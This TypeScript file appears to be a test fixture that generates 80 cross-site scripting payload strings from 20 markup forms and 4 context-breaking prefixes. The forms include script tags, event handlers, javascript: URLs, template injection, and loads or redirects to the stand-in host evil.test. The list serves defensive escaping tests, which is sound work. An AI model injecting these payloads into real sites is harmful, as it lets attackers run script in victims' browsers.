// 80 texts that would run a script, load from elsewhere or leave the page if interpreted as markup.

const forms = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)>',
  '<style>@import "//evil.test"</style>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>',
  '<input autofocus onfocus=alert(1)>',
  '<base href="//evil.test">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<template><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
] as const;

/** Closes the context of a text: nothing, an attribute, a comment, an element. */
const openings = ['', '">', "'-->", '</textarea></title>'] as const;

export const scriptPayloads = openings.flatMap((opening) => forms.map((form) => `${opening}${form}`));

/** One per opening, with different forms. */
export const samplePayloads = openings.flatMap((opening, at) => [
  `${opening}${forms[at]}`,
  `${opening}${forms[at + 4]}`,
]);
